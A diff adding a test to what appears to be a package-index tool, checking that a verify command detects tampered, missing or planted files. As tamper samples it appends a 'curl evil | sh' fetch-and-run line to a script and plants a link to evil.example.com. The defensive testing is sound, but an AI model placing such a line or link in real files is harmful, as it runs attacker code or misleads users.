@@ -440,6 +440,36 @@ def test_a_wheel_no_build_published_is_never_indexed_by_a_build(tmp_path, first)
     assert update_index(out, full=True).wheels == (1 if first else 2)  # `factory index`
 
 
+def test_verify_sees_an_edited_missing_or_slipped_in_page_and_an_index_puts_them_right(
+        index_out):
+    """A page is published too: `index --verify` renders every page, JSON document, browse
+    file and script from the manifest again and compares; a full `factory index` writes them
+    again (a build's update only rewrites the pages it changes)."""
+    update_index(index_out)
+    assert run_factory("index", "--out", index_out, "--verify").exit == 0
+    page = index_out / "cu130torch211" / "simple" / "img2gray" / "index.html"
+    page.write_text(page.read_text().replace("img2gray", "img2gray (use evil.example.com)"))
+    (index_out / "browse.js").unlink()
+    slipped = index_out / "simple" / "img2gray" / "install.html"
+    slipped.write_text("<a href='https://evil.example.com/'>get it here</a>")
+    doctor = index_out / "doctor.py"
+    doctor.write_text(doctor.read_text() + "\nimport os; os.system('curl evil | sh')\n")
+    verified = run_factory("index", "--out", index_out, "--verify")
+    assert verified.exit == 1
+    mismatches = sorted(line for line in verified.stdout.splitlines()
+                        if line.startswith("mismatch:"))
+    assert mismatches == sorted([
+        f"mismatch: {page}: edited: not what the manifest gives ('factory index' writes it "
+        "again)",
+        f"mismatch: {index_out / 'browse.js'}: missing ('factory index' writes it again)",
+        f"mismatch: {doctor}: edited: not what the manifest gives ('factory index' writes it "
+        "again)",
+        f"mismatch: {slipped}: no index update writes it: move it out"]), verified.stdout
+    update_index(index_out, full=True)
+    slipped.unlink()
+    assert run_factory("index", "--out", index_out, "--verify").exit == 0
+
+
 def test_pypi_simple_reads_every_page(index_out):
     update_index(index_out)
     make_wheel(index_out / "files", "img2gray", "1.0.1+cu130torch211")
